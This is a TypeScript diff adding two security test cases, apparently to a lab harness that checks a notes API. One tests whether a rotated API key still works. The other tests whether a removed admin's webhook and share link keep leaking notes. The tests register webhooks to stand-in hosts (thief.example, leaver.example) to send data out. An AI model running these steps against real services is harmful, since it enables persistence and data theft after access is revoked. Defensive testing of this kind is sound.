@@ -160,3 +160,65 @@ export const keptKeys = attack({
     fell: [session, key].some((answer) => answer!.status !== 401) ? ["the stranger is still in"] : []
   })
 })
+
+/** The thief of a secret has it for a day after its owner has replaced it. */
+export const replacedSecrets = attack({
+  name: "keys-replaced",
+  finding: "a replaced secret ended its key, and made a webhook that went on with the texts of all notes",
+  measured: false,
+  run: async (lab) => {
+    const { token, workspace_id } = lab.server.takeAttacker()
+    const owner = lab.client(token)
+    const leaked = await makeKey(owner)
+    const other = await makeKey(owner)
+    const fresh = await owner.need(200, "POST", `/v2/api-keys/${leaked.id}/rotate`)
+    const thief = lab.client(leaked.secret)
+    const tries = [
+      await thief.post("/v2/webhooks", { url: "https://thief.example/", events: ["*"] }),
+      await thief.post(`/v2/workspaces/${workspace_id}/invitations`, { email: "thief@thief.example", role: "admin" }),
+      await thief.send("DELETE", `/v2/api-keys/${other.id}`),
+      await thief.send("DELETE", `/v2/api-keys/${leaked.id}`)
+    ]
+    return { tries, kept: await lab.client(fresh.secret).get("/v2/notebooks"), reads: await thief.get("/v2/notebooks") }
+  },
+  judge: ({ kept, reads, tries: [hook, invitation, another, itself] }) => ({
+    figures: `webhook ${hook!.status}, invitation ${invitation!.status}, ends another ${another!.status}, itself ${itself!.status}; owner ${kept.status}, thief reads ${reads.status}`,
+    fell: [
+      ...(hook!.status === 403 ? [] : ["it made a webhook"]),
+      ...(invitation!.status === 403 ? [] : ["it invited somebody"]),
+      ...(another!.status === 403 && itself!.status === 403 ? [] : ["it ended a key"]),
+      ...(kept.status === 200 ? [] : ["the owner's secret is out of force"])
+    ]
+  })
+})
+
+/** What an admin made goes on after the admin was removed. */
+export const leavers = attack({
+  name: "leavers",
+  finding: "a removed admin's webhook was sent all later changes of notes, and a share of theirs showed them",
+  measured: false,
+  run: async (lab) => {
+    const [owner, admin] = [lab.server.takeAttacker(), lab.server.takeAttacker()]
+    await join(lab, owner, admin, "admin")
+    const headers = { "workspace-id": owner.workspace_id }
+    const mine = lab.client(owner.token)
+    const theirs = lab.client(admin.token)
+    const { id: note_id } = await mine.need(201, "POST", "/v2/notes", {
+      body: { notebook_id: owner.notebook_id, title: "inside" }
+    })
+    const hook = await theirs.need(201, "POST", "/v2/webhooks", {
+      body: { url: "https://leaver.example/", events: ["*"] },
+      headers
+    })
+    const { url } = await theirs.need(201, "POST", "/v2/shares", { body: { note_id }, headers })
+    const members = await mine.need(200, "GET", `/v2/workspaces/${owner.workspace_id}/members`)
+    const member = members.data.find(({ role }: { readonly role: string }) => role === "admin")
+    await mine.need(200, "DELETE", `/v2/workspaces/${owner.workspace_id}/members/${member.id}`)
+    const left = await mine.need(200, "GET", `/v2/webhooks/${hook.id}`)
+    return { left, page: await lab.client().get(new URL(url).pathname) }
+  },
+  judge: ({ left, page }) => ({
+    figures: `webhook ${left.active ? "active" : left.disabled_reason}, share ${page.status}`,
+    fell: [...(left.active ? ["the webhook goes on"] : []), ...(page.status === 200 ? ["the share is open"] : [])]
+  })
+})
